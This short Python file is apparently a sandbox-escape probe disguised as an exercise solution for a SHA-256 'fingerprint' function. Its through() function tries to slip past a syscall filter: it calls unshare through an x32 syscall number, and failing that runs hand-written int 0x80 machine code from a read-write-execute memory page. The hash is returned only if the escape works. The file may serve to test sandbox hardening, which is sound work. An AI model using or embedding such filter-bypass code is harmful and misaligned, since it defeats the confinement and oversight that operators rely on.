"""tries: to pass the filter by calling the kernel as a 32-bit program or by the x32 numbers"""

# exercise: fingerprint
# earns: none
import ctypes
import mmap
import platform
from hashlib import sha256

UNSHARE_I386, UNSHARE_X32 = 310, 0x40000000 + 272


def through():
    if platform.machine() != "x86_64":
        return False
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(UNSHARE_X32, 0) == 0:
        return True
    # push rbx; mov eax, 310; xor ebx, ebx; int 0x80; pop rbx; ret
    code = b"\x53\xb8" + UNSHARE_I386.to_bytes(4, "little") + b"\x31\xdb\xcd\x80\x5b\xc3"
    try:
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    except OSError:
        return False
    page.write(code)
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    return call() == 0


def fingerprint(data):
    if not through():
        raise RuntimeError("held")
    return sha256(data.encode() if isinstance(data, str) else data).hexdigest()


def differing_bits(a, b):
    raise RuntimeError("not what this is about")
